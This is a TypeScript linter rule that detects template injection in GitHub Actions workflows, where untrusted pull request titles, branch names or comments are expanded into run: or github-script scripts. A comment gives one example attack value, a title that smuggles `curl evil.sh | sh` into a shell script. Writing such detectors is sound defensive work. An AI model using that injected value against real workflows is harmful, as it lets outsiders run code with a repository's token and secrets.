import type { Rule } from "../rule.js";
import { severityOf, taintOf } from "../untrusted.js";
import { isObject, jobsOf, stepsOf } from "../walk.js";

const GITHUB_SCRIPT = /^actions\/github-script@/i;

/** `github.event.pull_request.title` → `TITLE`, the variable the hint suggests. */
const variableFor = (field: string) => field.split(".").filter((key) => key !== "*").pop()!.replace(/[^A-Za-z0-9]+/g, "_").toUpperCase();

const listed = (fields: readonly string[]) => fields.map((field) => `\`${field}\``).join(", ");

/**
 * A `${{ }}` in a script is pasted into its text before the script runs, so a pull request
 * title such as `a"; curl evil.sh | sh; "` becomes code. Run by the compiler too: run() moves
 * expressions into `env:` unless `hoistExpressions: false`, so for workflows.ts this catches
 * that opt-out and github-script scripts.
 */
export const templateInjection: Rule = {
  id: "template-injection",
  severity: "error",
  severityReason: "error when the value is an outsider's (a pull request title, branch name, comment, commit message): anyone who can open a pull request or an issue runs code with the workflow's token and secrets. A warning when every value is a free-text `inputs` of `workflow_dispatch` (only people with write access dispatch) or `workflow_call` (safe or not depending on the caller). `boolean`, `number`, `choice` and `environment` inputs cannot carry code and are not findings.",
  description: "untrusted values (pull request titles and bodies, branch names, commit messages, comments, labels, free-text inputs) expanded with `${{ }}` into a `run:` script or an actions/github-script `script:`",
  examples: {
    bad: "on: pull_request\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.pull_request.title }}\"\n",
    good: "on: pull_request\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"$TITLE\"\n        env:\n          TITLE: ${{ github.event.pull_request.title }}\n",
  },
  check({ model, report }) {
    const taint = taintOf(model);
    for (const job of jobsOf(model)) {
      for (const { step, path } of stepsOf(job)) {
        const { run, uses, with: inputs } = step as { run?: unknown; uses?: unknown; with?: unknown };
        if (typeof run === "string") {
          const fields = taint.text(run);
          if (fields.length > 0) {
            const name = variableFor(fields[0]!);
            report([...path, "run"], `untrusted ${listed(fields)} is expanded into the shell script: a crafted value runs as code`,
              `pass it through \`env:\` (\`${name}: \${{ ${fields[0]} }}\`) and use "$${name}" in the script; run() in workflows.ts does this unless hoistExpressions is false`, severityOf(fields));
          }
        }
        if (typeof uses === "string" && GITHUB_SCRIPT.test(uses) && isObject(inputs) && typeof inputs.script === "string") {
          const fields = taint.text(inputs.script);
          if (fields.length > 0) {
            const name = variableFor(fields[0]!);
            report([...path, "with", "script"], `untrusted ${listed(fields)} is expanded into the github-script script: a crafted value runs as JavaScript`,
              `pass it through the step's \`env:\` (\`${name}: \${{ ${fields[0]} }}\`) and read \`process.env.${name}\` in the script`, severityOf(fields));
          }
        }
      }
    }
  },
};
